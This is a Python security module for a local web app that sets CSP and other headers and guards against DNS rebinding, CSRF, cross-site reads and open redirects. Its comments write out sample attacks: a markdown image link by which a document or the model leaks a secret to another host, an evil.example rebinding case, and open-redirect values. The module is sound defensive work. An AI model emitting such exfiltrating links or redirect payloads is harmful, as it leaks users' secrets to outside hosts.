"""Decisions about requests: is the host ours, is the origin ours, which headers guard an answer.

Pure functions of strings; no framework, no database. What they allow is written in the tests as a
table. Threats are named where they are met.
"""

from __future__ import annotations

import ipaddress
import re
from urllib.parse import urlsplit

# Verified with Gradio 6.31: chat, KaTeX, code and tables work, images of other hosts do not load.
# 'unsafe-eval' is needed by gr.HTML templates. Threat: a document or the model writes
# ![x](https://elsewhere/?q=secret), and the reader's browser fetches it.
PAGE_CSP = (
    "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'; "
    "style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; media-src 'self' blob:; "
    "font-src 'self' data:; connect-src 'self'; worker-src 'self' blob:; frame-src 'none'; "
    "frame-ancestors 'self'; base-uri 'self'; form-action 'self'; object-src 'none'"
)
# Our own pages have no script at all.
PLAIN_CSP = (
    "default-src 'none'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
    "frame-ancestors 'none'; base-uri 'none'; form-action 'self'"
)
SESSION_COOKIE = "kit_session"
NO_STORE = "no-store"
SAFE_METHODS = frozenset({"GET", "HEAD"})
_HOST = re.compile(r"(\[[0-9a-f:.]+\]|[a-z0-9._-]+)(?::([0-9]{1,5}))?", re.IGNORECASE | re.ASCII)


def security_headers(*, is_asset: bool, is_https: bool) -> dict[str, str]:
    """Headers every answer carries, unless the answer brings a stricter one of its own."""
    headers = {
        "Content-Security-Policy": PAGE_CSP,
        "X-Content-Type-Options": "nosniff",
        "Referrer-Policy": "same-origin",
        "X-Frame-Options": "SAMEORIGIN",
        "Cross-Origin-Opener-Policy": "same-origin",
        "Cross-Origin-Resource-Policy": "same-origin",
        "Permissions-Policy": "camera=(), microphone=(), geolocation=(), browsing-topics=()",
    }
    headers["Cache-Control"] = "private, max-age=3600" if is_asset else NO_STORE
    if is_https:
        headers["Strict-Transport-Security"] = "max-age=31536000"
    return headers


def cookie_name(*, is_https: bool) -> str:
    """`__Host-` makes the browser itself insist on Secure, Path=/ and no Domain."""
    return f"__Host-{SESSION_COOKIE}" if is_https else SESSION_COOKIE


def is_loopback_address(host: str) -> bool:
    """Whether listening on `host` is reachable from this machine alone."""
    if host.lower() == "localhost":
        return True
    try:
        return ipaddress.ip_address(host.strip("[]")).is_loopback
    except ValueError:
        return False


def host_name(host_header: str) -> str | None:
    """The name or address in a Host header, in lower case without port; None if malformed."""
    match = _HOST.fullmatch(host_header)
    if match is None or (match[2] and int(match[2]) > 65535):
        return None
    return match[1].lower().strip("[]")


def is_loopback_host(host_header: str) -> bool:
    """Whether a Host header names this machine itself.

    Threat: DNS rebinding. A page of evil.example, whose name suddenly points to 127.0.0.1, may talk
    to a kit on loopback as if it were its own; but its requests say "Host: evil.example". Any port
    will do, so that an SSH tunnel from another port works.
    """
    name = host_name(host_header)
    return name is not None and is_loopback_address(name)


def is_same_origin(
    *, scheme: str, host: str, origin: str | None, referer: str | None, fetch_site: str | None
) -> bool:
    """Whether a state-changing request comes from our own page.

    Threat: cross-site request forgery, also from another port or scheme of the same machine. The
    sender must prove its origin: a request with neither Origin nor Referer is refused.
    """
    if fetch_site is not None and fetch_site != "same-origin":
        return False
    own = f"{scheme}://{host}".lower()
    if origin is not None:
        return origin.lower() == own
    if referer is None:
        return False
    try:
        parts = urlsplit(referer)
    except ValueError:
        return False
    return f"{parts.scheme}://{parts.netloc}".lower() == own


def is_allowed_read(
    *, fetch_site: str | None, fetch_mode: str | None, fetch_dest: str | None
) -> bool:
    """Whether a GET may be answered: our own pages, a tool, or a person following a link to us.

    Threat: another site that embeds our answers (<img>, <script>, <iframe>) and learns from them.
    Browsers send Sec-Fetch-* and scripts cannot forge them; tools send none.
    """
    if fetch_site in (None, "same-origin", "none"):
        return True
    return fetch_mode == "navigate" and fetch_dest == "document"


def safe_next(target: str | None) -> str:
    """Where to go after signing in: a path of ours, else '/'.

    Threat: an open redirect, /sign-in?next=https://evil.example or //evil.example.
    """
    if not target or len(target) > 2000 or not re.fullmatch(r"/(?![/\\])[\x21-\x7e]*", target):
        return "/"
    return "/" if "\\" in target or target.startswith("/sign-") else target
